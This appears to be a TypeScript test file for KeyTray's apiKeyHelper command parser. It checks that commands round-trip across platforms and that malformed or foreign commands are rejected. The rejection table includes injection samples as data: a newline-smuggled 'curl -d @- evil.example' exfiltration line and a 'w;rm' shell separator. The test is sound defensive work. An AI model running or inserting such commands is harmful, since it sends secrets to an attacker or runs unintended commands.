/**
 * The apiKeyHelper command KeyTray writes, read back: every kind of target on
 * every platform survives the round trip, and anything else is not mistaken
 * for KeyTray's helper.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type HelperTarget, helperCommand, parseHelperCommand } from '../../shared/helper-command';
import { providerIds } from '../../shared/providers';

const provider = fc.constantFrom(...providerIds());
const label = fc.stringMatching(/^[A-Za-z0-9._-]{1,20}$/);
const target: fc.Arbitrary<HelperTarget> = fc.oneof(
  fc.record({ kind: fc.constant('key' as const), provider }),
  fc.record({ kind: fc.constant('key' as const), provider, label }),
  fc.constant({ kind: 'proxy-token' as const }),
  fc.record({ kind: fc.constant('proxy-token' as const), binding: fc.record({ provider, label }) }),
);
const script = fc.oneof(
  fc.constant('/home/me/.local/share/keytray/claude-key-helper'),
  fc.constant("/home/o'brien/keytray data/claude-key-helper"),
  fc.constant('C:\\Users\\Me\\AppData\\Roaming\\keytray\\claude-key-helper.cmd'),
);

describe('the helper command', () => {
  it('reads back what it writes, for every target and platform', () => {
    fc.assert(
      fc.property(target, script, fc.constantFrom('linux', 'darwin', 'win32'), (t, path, platform) => {
        const parsed = parseHelperCommand(helperCommand(path, t, platform as 'linux'));
        expect(parsed).toEqual({ script: path, target: t });
      }),
    );
  });

  it('writes the forms the key helper takes', () => {
    const path = '/k/claude-key-helper';
    expect(helperCommand(path, { kind: 'key', provider: 'anthropic' }, 'linux')).toBe(`'${path}' anthropic`);
    expect(helperCommand(path, { kind: 'key', provider: 'anthropic', label: 'work' }, 'linux')).toBe(`'${path}' anthropic work`);
    expect(helperCommand(path, { kind: 'proxy-token' }, 'linux')).toBe(`'${path}' --proxy-token`);
    expect(helperCommand(path, { kind: 'proxy-token', binding: { provider: 'anthropic', label: 'work' } }, 'linux')).toBe(
      `'${path}' --proxy-token anthropic work`,
    );
  });

  it.each([
    ["someone else's helper", "'/usr/bin/op' read anthropic"],
    ['a word that cannot name a provider', "'/k/claude-key-helper' Vertex_AI"],
    ['a proxy token with a provider but no label', "'/k/claude-key-helper' --proxy-token anthropic"],
    ['too many words', "'/k/claude-key-helper' anthropic work extra"],
    ['a label with a shell character', "'/k/claude-key-helper' anthropic w;rm"],
    ['no arguments', "'/k/claude-key-helper'"],
    ['a second command after a newline', "'/k/claude-key-helper' anthropic\ncurl -d @- evil.example"],
    ['a label on the next line', "'/k/claude-key-helper' anthropic\nwork"],
    ['a carriage return', "'/k/claude-key-helper' anthropic\r"],
    ['a tab between words', "'/k/claude-key-helper'\tanthropic"],
    ['two spaces between words', "'/k/claude-key-helper'  anthropic"],
    ['a trailing space', "'/k/claude-key-helper' anthropic "],
    ['a newline inside the quoted path', "'/k/x\n/claude-key-helper' anthropic"],
    ['a script path quoted another way', "'/k/'claude-key-helper anthropic"],
  ])('does not take %s for KeyTray’s helper', (_name, command) => {
    expect(parseHelperCommand(command)).toBeNull();
  });
});
